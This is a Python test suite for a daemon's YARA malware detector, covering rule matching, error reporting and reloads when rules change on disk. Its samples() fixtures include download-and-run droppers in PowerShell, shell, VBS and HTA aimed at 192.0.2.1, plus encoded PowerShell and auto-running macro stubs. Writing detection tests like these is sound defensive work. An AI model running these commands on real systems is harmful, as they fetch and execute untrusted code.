"""Rules of YARA: what they find, what a bad file costs, and what happens when they change on disk."""
import importlib
import io
import json
import os
import signal
import time
import zipfile

import proc
import scenario
from scenario import EICAR, Carved, broapt_name, check, command, fuid, same

helpers = importlib.import_module("24_helpers")

PACKAGING = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "packaging")
HELLO = 'rule hello : greeting { meta: author = "me" level = 3 strings: $a = "hello" condition: $a }\n'
BROKEN = "rule broken {\n  strings:\n    $a = \"x\"\n  condition: $b\n}\n"
# enough to be seen while it is loaded
MANY = "".join('rule r%d { strings: $a = "Q%06d" condition: $a }\n' % (number, number) for number in range(6000))
SHIPPED = "detectors: [ { type: yara } ]\nunmatched: scan\n"
PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)


def with_rules(files, more=""):
    """A daemon that is not running yet, with these files of rules."""
    carved = Carved()
    rules = os.path.join(carved.home, "rules")
    os.mkdir(rules)
    for name, text in files.items():
        write_rule(carved, name, text)
    carved.write_config("unmatched: scan\ndetectors: [ { type: yara, rules: rules" + more + " } ]\n")
    return carved


def write_rule(carved, name, text):
    path = os.path.join(carved.home, "rules", name)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    return path


def until_said(carved, words, count=1):
    carved.until(lambda: carved.stderr().count(words) >= count, f"{words!r} in the log")


def digest_of(carved, path):
    rows = carved.sql("SELECT s.detector_digest, s.cached FROM scan s JOIN file f ON f.id = s.file_id "
                      "WHERE f.path = CAST(? AS TEXT)", path)
    same(len(rows), 1, f"scans of {path!r}")
    return rows[0]


def status(carved):
    done = command("status", "--json", "--history", carved.history)
    same(done.returncode, 0, f"status: {done.stderr!r}")
    return json.loads(done.stdout)


def zip_of(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def samples():
    """Of each shipped rule: name of the file, content, rule (None: nothing is found)."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    vba = "_VBA_PROJECT".encode("utf-16-le")
    office = {"word__document.xml": b"<w/>", "word__vbaProject.bin": b"\xd0\xcf"}
    types = zip_of(**office)
    # "[Content_Types].xml" is no keyword argument
    with zipfile.ZipFile(io.BytesIO(types)) as archive:
        names = archive.namelist()
    check("word/vbaProject.bin" in names, "the sample is made")
    out = io.BytesIO(types)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
    document = out.getvalue()
    shell = b"Invoke-Expression (New-Object Net.WebClient).Download" + b"String('http://192.0.2.1/a')"
    vbs = (b'Set x = CreateObject("MSXML2.XML' + b'HTTP")\nSet s = CreateObject("ADODB.Str' + b'eam")\n'
           b'CreateObject("WScript.Sh' + b'ell").Run "a.exe"\n')
    hta = (b'<html><hta:appl' + b'ication><script language="vbscript">\n'
           b'CreateObject("WScript.Sh' + b'ell").Run("cmd")</script>')
    dropper = b"#!/bin/sh\ncd /tmp; wget http://192.0.2.1/bot; chmod 777 bot; ./bot\n"
    encoded = b"powershell.exe -nop -w hidden -enc " + b"QQBB" * 30
    return [
        (broapt_name("text/plain", "txt"), EICAR, "eicar_test_file"),
        (broapt_name("text/plain", "txt"), b"about " + EICAR, None),
        (broapt_name("image/png", "png"), PROGRAM, "program_declared_as_document"),
        ("picture.jpg", b"\x7fELF" + bytes(100), "program_declared_as_document"),
        (broapt_name("application/x-dosexec", "exe"), PROGRAM, None),
        ("MZ.png", b"MZ is how some text begins", None),
        (broapt_name("text/plain", "txt"), PROGRAM, "program_declared_as_text"),
        (broapt_name("image/gif", "gif"), b"#!/usr/bin/env python3\nprint(1)\n", "script_declared_as_document"),
        (broapt_name("text/plain", "txt"), b"#!/bin/sh\necho hello\n", None),
        ("invoice.pdf.exe", b"anything", "double_extension"),
        ("invoice.pdf", b"%PDF-1.7 anything", None),
        (b"cv\xe2\x80\xaefdp.exe", b"anything at all", "right_to_left_name"),
        ("a.ps1", shell, "powershell_download_and_run"),
        ("b.ps1", b"Invoke-WebRequest http://192.0.2.1/ -OutFile page.html", None),
        ("a.bat", encoded, "powershell_encoded_command"),
        ("a.vbs", vbs, "script_host_download_and_run"),
        ("b.vbs", b'CreateObject("WScript.Shell").Run "notepad"', None),
        ("a.hta", hta, "hta_runs_a_command"),
        ("a.sh", dropper, "shell_download_and_run"),
        ("b.sh", b"#!/bin/sh\nwget https://example.org/file && sha256sum file\n", None),
        ("a.doc", ole + vba + b"Sub AutoOpen()", "office_macro_runs_by_itself"),
        ("b.doc", ole + vba + b"Sub AutoOpen() powershell", "office_macro_starts_programs"),
        ("c.doc", ole + b"a letter", None),
        ("a.docx", document, "office_macro_in_zip"),
        ("a.docm", document + b"\n", "office_macro_enabled"),
        ("b.docx", zip_of(word__document=b"vbaProject is a word"), None),
    ]


def test_each_shipped_rule_finds_its_sample_and_nothing_else():
    with Carved(SHIPPED) as carved:
        expected = {carved.put(name, content): rule for name, content, rule in samples()}
        carved.start()
        carved.wait_settled(len(expected))
        for path, rule in expected.items():
            rows = carved.sql("SELECT s.outcome, s.detail FROM scan s JOIN file f ON f.id = s.file_id "
                              "WHERE f.path = CAST(? AS TEXT)", path)
            same(len(rows), 1, f"scans of {path!r}")
            names = [one["rule"] for one in json.loads(rows[0][1] or b"{}").get("rules", [])]
            check(rule in names if rule else not names, f"{path!r}: {rows!r}, expected {rule}")
            if not rule:
                same(rows[0][0], b"clean", f"{path!r}")
        info = [path for path, rule in expected.items() if rule == "office_macro_enabled"][0]
        same(carved.row(info), (b"done", None, b"clean"), "severity info")
        carved.stop()


def test_answers_say_which_rules_and_why():
    with with_rules({"a.yar": HELLO, "b.yara": "rule mild : suspicious { condition: mime == \"text/plain\" }\n",
                     ".hidden.yar": BROKEN, "notes.txt": BROKEN}) as carved:
        path = carved.put(broapt_name("text/plain", "txt"), b"hello")
        other = carved.put("plain", b"hello there")
        carved.start()
        carved.wait_settled(2)
        rows = carved.sql("SELECT outcome, signature, detail FROM scan JOIN file f ON f.id = file_id "
                          "WHERE path = CAST(? AS TEXT)", path)
        same(rows[0][:2], (b"malicious", b"hello [greeting], mild [suspicious]"), "the answer")
        same(json.loads(rows[0][2])["rules"][0],
             {"rule": "hello", "namespace": "a.yar", "tags": ["greeting"], "meta": {"author": "me", "level": 3}},
             "the detail")
        same(carved.row(other, "verdict"), (b"malicious",), "a name without a type")
        same(status(carved)["detectors_degraded"], 0, "degraded")
        carved.stop()


def test_a_bad_file_costs_only_itself_and_is_named():
    # check wants EICAR to be found by something
    with open(os.path.join(PACKAGING, "rules", "eicar.yar"), encoding="utf-8") as file:
        eicar = file.read()
    with with_rules({"a.yar": HELLO, "bad.yar": BROKEN, "eicar.yar": eicar}) as carved:
        bad = os.path.join(carved.home, "rules", "bad.yar").encode()
        checked = command("check", "-c", carved.config_path, "--history", carved.history, carved.root)
        check(bad + b":5: undefined string" in checked.stdout, f"{checked.stdout!r}")
        same(checked.returncode, 0, "a degraded detector works")
        path = carved.put(content=b"hello")
        carved.start()
        carved.wait_settled(1)
        same(carved.row(path), (b"done", None, b"malicious"), "the other file's rule")
        check(bad + b":5: undefined string" in carved.stderr(), "file, line and message in the log")
        said = status(carved)
        same((said["detectors_degraded"], said["degraded"][0]["detector"]), (1, "yara"), "status")
        carved.stop()


def test_no_rule_left_is_a_configuration_error():
    with with_rules({"bad.yar": BROKEN}) as carved:
        done = command("run", "-c", carved.config_path, "--history", carved.history, carved.root)
        same(done.returncode, 2, f"exit status: {done.stderr!r}")
        check(b"bad.yar:5:" in done.stderr, f"{done.stderr!r}")


def test_rules_changed_on_disk_scan_the_same_content_once_more():
    with with_rules({"a.yar": HELLO}) as carved:
        carved.start()
        first = carved.put(content=b"good day")
        again = carved.put(content=b"good day")
        carved.wait_settled(2)
        write_rule(carved, "b.yar", 'rule day { strings: $a = "day" condition: $a }\n')
        until_said(carved, b"rules changed on disk, detectors reloaded")
        new = carved.put(content=b"good day")
        newer = carved.put(content=b"good day")
        carved.wait_settled(4)
        same([carved.row(path, "verdict")[0] for path in (first, again, new, newer)],
             [b"clean", b"clean", b"malicious", b"malicious"], "verdicts")
        old, old_cached = digest_of(carved, first)
        same(sorted(digest_of(carved, path) for path in (first, again)), [(old, 0), (old, 1)], "before")
        after = sorted(digest_of(carved, path) for path in (new, newer))
        check(after[0][0] == after[1][0] != old and old_cached in (0, 1), f"digests {after}, {old}")
        same([cached for _, cached in after], [0, 1], "scanned once more, then taken over")
        carved.stop()


def test_the_last_good_state_of_a_file_is_kept():
    with with_rules({"a.yar": HELLO, "b.yar": 'rule bye { strings: $a = "bye" condition: $a }\n'}) as carved:
        carved.start()
        first = carved.put(content=b"hello one")
        carved.wait_settled(1)
        write_rule(carved, "a.yar", BROKEN)
        until_said(carved, b"rules changed on disk, detectors reloaded")
        second = carved.put(content=b"hello two")
        third = carved.put(content=b"bye")
        carved.wait_settled(3)
        same([carved.row(path, "verdict")[0] for path in (first, second, third)], [b"malicious"] * 3, "verdicts")
        same(digest_of(carved, first)[0], digest_of(carved, second)[0], "the digest of what is in force")
        said = status(carved)
        same((said["detectors_degraded"], said["degraded"][0]["kept"]), (1, 1), "status")
        check(b"its last good state is kept" in carved.stderr(), "the log says so")
        # broken twice over, with SIGHUP in between: what was kept is handed on
        carved.send(signal.SIGHUP)
        until_said(carved, b"configuration and detectors reloaded")
        fourth = carved.put(content=b"hello three")
        carved.wait_settled(4)
        same(carved.row(fourth, "verdict"), (b"malicious",), "kept on")
        os.unlink(os.path.join(carved.home, "rules", "b.yar"))
        until_said(carved, b"rules changed on disk, detectors reloaded", 2)
        fifth = carved.put(content=b"bye bye")
        carved.wait_settled(5)
        same(carved.row(fifth, "verdict"), (b"clean",), "a file that was removed is no rule any more")
        carved.stop()


def test_includes_count_and_are_relative():
    with with_rules({"a.yar": 'include "parts/inner.inc"\n'}) as carved:
        os.mkdir(os.path.join(carved.home, "rules", "parts"))
        write_rule(carved, "parts/inner.inc", HELLO)
        path = carved.put(content=b"hello")
        carved.start()
        carved.wait_settled(1)
        same(carved.row(path, "verdict"), (b"malicious",), "an included rule")
        before = digest_of(carved, path)[0]
        write_rule(carved, "parts/inner.inc", HELLO.replace("hello", "help"))
        until_said(carved, b"rules changed on disk, detectors reloaded")
        other = carved.put(content=b"help")
        carved.wait_settled(2)
        check(digest_of(carved, other)[0] != before, "an included file is part of the digest")
        carved.stop()


def check_reloaded(carved, content, count=1):
    """The rules are read anew, for the count-th time, and find that content; the daemon ends."""
    until_said(carved, b"rules changed on disk, detectors reloaded", count)
    path = carved.put(content=content)
    carved.wait_settled(1)
    same(carved.row(path, "verdict"), (b"malicious",), "the new rule")
    carved.stop()


def test_rules_that_go_and_come_back_are_noticed():
    with with_rules({"a.yar": HELLO}) as carved:
        carved.start()
        rules = os.path.join(carved.home, "rules")
        os.rename(rules, rules + ".old")
        until_said(carved, b"the changed rules are refused")
        os.mkdir(rules + ".new")
        with open(rules + ".new/b.yar", "w", encoding="utf-8") as file:
            file.write(HELLO.replace("hello", "day"))
        os.rename(rules + ".new", rules)
        until_said(carved, b"rules changed on disk, detectors reloaded")
        write_rule(carved, "c.yar", HELLO.replace("hello", "night"))
        check_reloaded(carved, b"night", 2)


def test_a_link_to_rules_that_is_switched_is_noticed():
    with with_rules({"a.yar": HELLO}) as carved:
        rules = os.path.join(carved.home, "rules")
        os.rename(rules, rules + ".1")
        os.mkdir(rules + ".2")
        os.symlink("rules.1", rules)
        carved.start()
        with open(rules + ".2/b.yar", "w", encoding="utf-8") as file:
            file.write(HELLO.replace("hello", "day"))
        os.symlink("rules.2", rules + ".new")
        os.rename(rules + ".new", rules)
        check_reloaded(carved, b"day")


def test_a_file_in_a_new_directory_while_rules_are_loaded_is_noticed():
    with with_rules({"a.yar": MANY}) as carved:
        carved.start()
        before = proc.children(carved.process.pid)
        os.mkdir(os.path.join(carved.home, "rules", "sub"))
        carved.until(lambda: proc.children(carved.process.pid) - before, "loading begins")
        write_rule(carved, "sub/new.yar", HELLO)
        check_reloaded(carved, b"hello", 2)


def test_a_signal_ends_the_start_while_rules_are_loaded():
    for number in (signal.SIGTERM, signal.SIGINT):
        with with_rules({"a.yar": MANY}) as carved:
            carved.start(ready=False)
            # the program under way is the helper: it never comes to an end of its loading
            zygotes = carved.until(lambda: helpers.helpers(carved)[0], "loading begins")
            helpers.send(zygotes, signal.SIGSTOP)
            carved.stop(number)
            check(b"while detectors were loading" in carved.stderr(), f"{carved.stderr()!r}")


def test_a_fifo_among_the_rules_is_named_and_costs_only_itself():
    with with_rules({"a.yar": HELLO, "b.yar": 'include "fifo"\n'}) as carved:
        os.mkfifo(os.path.join(carved.home, "rules", "fifo"))
        os.mkfifo(os.path.join(carved.home, "rules", "c.yar"))
        path = carved.put(content=b"hello")
        carved.start()
        carved.wait_settled(1)
        same(carved.row(path, "verdict"), (b"malicious",), "the other file's rule")
        said = carved.stderr()
        check(b"b.yar:1: " in said and b"c.yar: not a regular file" in said, f"{said!r}")
        carved.stop()


def test_a_file_beyond_the_limit_is_skipped_with_the_reason():
    with with_rules({"a.yar": HELLO}, ", max_file_size: 1K") as carved:
        path = carved.put(content=b"hello" + bytes(2000))
        carved.start()
        carved.wait_settled(1)
        rows = carved.sql("SELECT outcome, detail FROM scan")
        same(rows[0][0], b"skipped", f"{rows!r}")
        check(b"max_file_size of this detector is 1024" in rows[0][1], f"{rows!r}")
        same(carved.row(path, "state, reason"), (b"unscanned", b"failed"), "never clean")
        carved.stop()


def test_what_libyara_gives_up_is_no_clean():
    many = 'rule many { strings: $a = "aa" condition: #a > 100000000 }\n'
    with with_rules({"a.yar": many}) as carved:
        path = carved.put(content=b"a" * 3000000)
        carved.start()
        carved.wait_settled(1)
        rows = carved.sql("SELECT outcome, detail FROM scan")
        same(rows[0][0], b"error", f"{rows!r}")
        check(b"matches too often" in rows[0][1], f"{rows!r}")
        same(carved.row(path, "verdict"), (b"error",), "verdict")
        carved.stop()


def test_idle_is_asleep():
    if scenario.sanitizer() == "thread":
        raise scenario.Skip("the thread sanitizer has a thread that never rests")
    with with_rules({"a.yar": HELLO}) as carved:
        carved.start()
        carved.put(content=b"hello")
        carved.wait_settled(1)
        # two equal readings, and time between them in which something could have run
        last = [-1]

        def rests():
            time.sleep(2)
            last.append(proc.switches(carved.process.pid))
            return last[-1] == last[-2]
        carved.until(rests, "no context switches", timeout=60)
        carved.stop()


if __name__ == "__main__":
    scenario.main()
